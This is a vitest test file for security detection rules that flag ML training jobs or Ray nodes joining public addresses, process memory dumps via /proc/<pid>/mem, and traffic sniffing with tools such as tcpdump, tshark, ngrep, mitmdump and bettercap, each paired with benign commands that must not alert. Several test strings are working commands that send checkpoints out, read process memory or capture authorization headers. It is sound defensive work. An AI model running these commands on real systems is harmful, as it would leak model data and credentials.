/**
 * Through the shipped rule set and the real engine, for a person and a service account: a training
 * job or a Ray node pointed at a public address (MLS-EXFIL-053), a process's memory read through a
 * substitution that finds it (MLS-EXFIL-045), the pod's traffic captured or intercepted
 * (MLS-RAY-039). Beside each, the everyday neighbours that must stay quiet.
 */
import { describe, it } from 'vitest';
import { expectQuiet as quiet, expectRaised as raises } from './exec-events.test-support.js';

describe('MLS-EXFIL-053: distributed training or a Ray node pointed at a public address', () => {
  it('alerts on launcher options, variables, rendezvous code and Ray joins or submissions at a public IPv4 address', () => {
    raises('MLS-EXFIL-053', [
      'MASTER_ADDR=203.0.113.9 MASTER_PORT=29500 torchrun --nnodes 2 --node_rank 1 train.py',
      'export MASTER_ADDR=198.51.100.20; python3 train.py',
      'torchrun --nnodes 2 --rdzv-backend c10d --rdzv-endpoint 203.0.113.9:29400 train.py',
      'nohup python3 -m torch.distributed.run --master_addr 203.0.113.9 train.py &',
      'deepspeed --num_nodes 2 --master_addr=8.8.4.4 train.py',
      'accelerate launch --main_process_ip 203.0.113.9 --num_machines 2 train.py',
      `python3 -c "import torch.distributed as d; d.init_process_group('nccl', init_method='tcp://203.0.113.9:29500', rank=1, world_size=2)"`,
      'ray start --address 203.0.113.9:6379',
      'ray start --address=203.0.113.9:6379 --num-gpus 8',
      'ray job submit --address http://203.0.113.9:8265 --working-dir /mnt/ckpt -- python run.py',
      'RAY_ADDRESS=ray://203.0.113.9:10001 python3 job.py',
      `python3 -c "import ray; ray.init('ray://203.0.113.9:10001')"`,
    ]);
  });

  it('leaves peers inside the cluster: private, loopback and link-local addresses, names, a head started here', () => {
    quiet('MLS-EXFIL-053', [
      'MASTER_ADDR=10.0.3.7 torchrun --nnodes 2 train.py',
      'torchrun --master_addr trainer-master-0 --master_port 29500 train.py',
      'torchrun --rdzv-endpoint trainer-0.trainer-headless:29400 train.py',
      'torchrun --master-addr 172.20.1.4 train.py',
      'torchrun --master-addr 100.64.0.9 train.py',
      'torchrun --master_addr 127.0.0.1 --nproc_per_node 8 train.py',
      'deepspeed --master_addr=192.168.1.10 train.py',
      'ray start --head --port 6379',
      'ray start --address 10.2.3.4:6379',
      'ray job submit --address http://127.0.0.1:8265 -- python run.py',
      'ray status --address 203.0.113.9:6379',
      `python3 -c "import ray; ray.init(address='auto')"`,
      'MASTER_ADDR=203.0.113.900 torchrun train.py',
    ]);
  });
});

describe('MLS-EXFIL-045: a process memory file found by a command substitution', () => {
  it('alerts on /proc/$(pgrep …)/mem read', () => {
    raises('MLS-EXFIL-045', ['dd if=/proc/$(pgrep python)/mem of=/tmp/mem bs=1M skip=100 count=100', 'cat /proc/$(pgrep -f train.py)/mem > /tmp/m']);
  });

  it('leaves other files of a process found that way', () => {
    quiet('MLS-EXFIL-045', ['cat /proc/$(pgrep python)/status', 'cat /proc/$(pgrep python)/memory_map_note', 'cat /proc/meminfo']);
  });
});

describe('MLS-RAY-039: the pod traffic captured or intercepted', () => {
  it('escalates captures, promiscuous mode and interception tools', () => {
    raises('MLS-RAY-039', [
      'tcpdump -i any -w /tmp/c.pcap port 6379',
      'timeout 60 tcpdump -nn -A -s0 port 80',
      'tshark -i eth0 -Y http.authorization -T fields -e http.authorization',
      'dumpcap -i eth0 -w /tmp/d.pcapng',
      "ngrep -q -d any 'Authorization' tcp port 8265",
      'ip link set eth0 promisc on',
      'ip link set dev eth0 promisc on',
      'ifconfig eth0 promisc',
      'mitmdump --mode transparent -w /tmp/flows',
      'bettercap -iface eth0',
      'tcpdump -r /tmp/a.pcap; tcpdump -i eth0 -w /tmp/b.pcap',
    ]);
  });

  it('leaves listing interfaces, reading a capture file, help and versions', () => {
    quiet('MLS-RAY-039', ['tcpdump -D', 'tcpdump --list-interfaces', 'tcpdump -nnr /tmp/a.pcap', 'tcpdump -r /tmp/a.pcap port 53', 'tshark -r /tmp/a.pcap -Y dns', 'tcpdump --version', 'mitmproxy --version', 'ip link set eth0 promisc off', 'ip link show eth0', 'which tcpdump']);
  });
});
